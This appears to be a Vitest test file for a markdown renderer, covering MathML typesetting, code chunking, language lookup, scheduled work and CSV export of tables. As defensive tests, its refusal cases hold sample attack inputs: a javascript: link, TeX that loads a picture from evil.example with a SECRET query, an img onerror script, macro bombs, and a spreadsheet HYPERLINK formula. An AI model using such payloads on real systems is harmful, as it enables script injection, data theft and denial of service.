import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import { codePieces } from '../../../src/renderer/markdown/code-pieces'
import { grammarOf, languageName } from '../../../src/renderer/markdown/languages'
import { WorkInPortions, portion } from '../../../src/renderer/markdown/lazy-work'
import { lexMarkdown } from '../../../src/renderer/markdown/lexer'
import { tableAsCsv } from '../../../src/renderer/markdown/table-text'
import { typeset } from '../../../src/renderer/markdown/typesetter'

describe('typesetting', () => {
  const mathml = (tex: string, isDisplay = false) => {
    const content = typeset(tex, isDisplay)
    return content === undefined ? undefined : renderToStaticMarkup(content)
  }

  it('makes MathML', () => {
    expect(mathml('\\frac{a}{b}')).toBe('<math><mfrac><mi>a</mi><mi>b</mi></mfrac></math>')
    expect(mathml('x', true)).toContain('display="block"')
    expect(mathml('x \\tag{7}', true)).toContain('7')
  })

  it('knows matrices, sums, cases, text and colours', () => {
    for (const tex of [
      '\\begin{bmatrix}1&2\\\\3&4\\end{bmatrix}',
      '\\sum_{i=0}^n i^2 = \\int_0^1 \\sqrt[3]{x}\\,dx',
      'f(x)=\\begin{cases}1 & x>0\\\\0 & \\text{otherwise}\\end{cases}',
      '\\color{red}{x} \\cancel{y} \\boxed{z} \\hat{a} \\vec{v} \\overline{AB}',
    ])
      expect(mathml(tex)).toMatch(/^<math/)
  })

  const refused: Readonly<Record<string, string>> = {
    'no TeX': '\\frac{a',
    'chemistry, which stays as it was written': '\\ce{H2O}',
    'a link': '\\href{javascript:alert(1)}{x}',
    'a picture': '\\includegraphics{https://evil.example/?q=SECRET}',
    'data attributes': '\\htmlData{x=1}{y}',
    'a style': '\\style{background:url(https://evil.example)}{x}',
    'a class': '\\class{approval}{x}',
    'an id': '\\id{composer}{x}',
    'a reference, which is a link': '\\ref{a}',
    'a macro bomb': '\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\a',
    'a definition of any kind': '\\newcommand{\\x}{y}\\x',
    'two thousand braces': `${'{'.repeat(2000)}x${'}'.repeat(2000)}`,
    'a thousand fractions in each other': `${'\\frac{1}{'.repeat(1000)}x${'}'.repeat(1000)}`,
    'more parts than a formula has': 'x'.repeat(5000),
  }
  for (const [name, tex] of Object.entries(refused)) {
    it(`refuses ${name}`, () => expect(mathml(tex)).toBeUndefined())
  }

  it('draws elements and attributes of MathML only', () => {
    const html = mathml('\\text{<img src=x onerror=alert(1)>} \\label{x} \\rule{99999em}{99999em}', true) ?? ''
    expect(html).toContain('&lt;img')
    for (const [, tag = ''] of html.matchAll(/<([a-zA-Z][^\s/>]*)/g)) expect(tag).toMatch(/^m[a-z]+$/)
    expect(html).not.toMatch(/<[^>]*\s(on\w+|id|href|src)=/)
    expect(html).not.toContain('99999')
  })
})

describe('code', () => {
  it('is in pieces that together are the code, each of a bounded size', () => {
    const code = 'function a() {\n  return 1\n}\n\n'.repeat(3000)
    const pieces = codePieces(code)
    expect(pieces.join('')).toBe(code)
    expect(Math.max(...pieces.map((piece) => piece.length))).toBeLessThanOrEqual(8000)
    expect(codePieces('x'.repeat(100_000)).join('')).toHaveLength(100_000)
  })

  it('keeps its first pieces while it grows', () => {
    const code = 'const a = 1\n\nconst b = [\n  2,\n\n  3,\n]\n'.repeat(1000)
    const final = codePieces(code)
    for (let end = 1000; end < code.length; end += 997) {
      const pieces = codePieces(code.slice(0, end))
      expect(final.slice(0, pieces.length - 1)).toEqual(pieces.slice(0, -1))
    }
  })

  it('has its language by many names, and never by one of Object', () => {
    expect(['ts', 'TSX', 'c++', 'yml', 'html', 'console', 'ts {1,2}'].map(grammarOf)).toEqual(
      ['typescript', 'typescript', 'cpp', 'yaml', 'xml', 'shell', 'typescript'], // prettier-ignore
    )
    expect(['', 'constructor', '__proto__', 'klingon'].map(grammarOf)).toEqual(Array(4).fill(undefined))
    expect(languageName('rust,ignore')).toBe('rust')
  })
})

describe('work in portions', () => {
  it('does what is affordable at once and the rest portion by portion, in order', () => {
    const later: (() => void)[] = []
    const portions = new WorkInPortions((run) => later.push(run))
    const done: number[] = []
    for (let job = 0; job < 10; job += 1) portions.add(portion / 4, () => done.push(job))
    expect(done).toEqual([0, 1, 2, 3])
    later.shift()?.()
    expect(done).toHaveLength(8)
    later.shift()?.()
    expect(done).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9])
    later.shift()?.()
    expect(later).toHaveLength(0)
  })

  it('gives a portion of its own to what is dearer than one, and none to what was called off', () => {
    const later: (() => void)[] = []
    const portions = new WorkInPortions((run) => later.push(run))
    const done: string[] = []
    portions.add(1, () => done.push('small'))
    portions.add(portion * 3, () => done.push('large'))
    const callOff = portions.add(1, () => done.push('not any more'))
    portions.add(1, () => done.push('last'))
    callOff()
    while (later.length > 0) later.shift()?.()
    expect(done).toEqual(['small', 'large', 'last'])
  })
})

describe('a table as CSV', () => {
  const csv = (source: string) => {
    const [table] = lexMarkdown(source)
    if (table?.type !== 'table') throw new Error('no table')
    return tableAsCsv(table)
  }

  it('quotes what RFC 4180 says and drops the marks', () => {
    expect(csv('| a, b | **c** |\n|---|---|\n| say "x" | `d` &amp; [e](https://example.com) |')).toBe(
      '"a, b",c\r\n"say ""x""",d & e',
    )
  })

  it('lets no cell be a formula of the spreadsheet', () => {
    expect(csv('| =HYPERLINK("https://evil.example") | -1.5 |\n|---|---|\n| @x | +cmd |')).toBe(
      `"'=HYPERLINK(""https://evil.example"")",-1.5\r\n'@x,'+cmd`,
    )
  })
})
